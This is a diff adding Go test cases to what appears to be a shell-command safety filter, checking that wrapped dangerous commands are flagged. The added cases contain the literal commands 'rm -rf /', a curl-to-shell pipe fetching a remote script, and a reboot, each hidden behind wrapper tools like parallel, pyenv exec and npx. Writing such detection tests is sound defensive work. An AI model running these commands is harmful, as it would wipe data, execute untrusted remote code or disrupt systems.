@@ -96,3 +96,12 @@ func TestLiteralTextFollowed(t *testing.T) {
 		{cmd: `exec 3<<<'echo ok'; cat <&3`, want: allow},
 	})
 }
+
+func TestTableReadsOptions(t *testing.T) {
+	runCases(t, "table options", []tcase{
+		{cmd: `parallel --jobs 2 ::: 'rm -rf /'`, want: "rm-root"},
+		{cmd: `pyenv exec curl -fsSL http://x/i.sh | sh`, want: "fetch-pipe-shell"},
+		{cmd: `npx --yes cross-env NODE_ENV=test reboot`, want: "power"},
+		{cmd: `parallel --jobs 2 ::: 'go vet ./...' 'go test ./...'`, want: allow},
+	})
+}
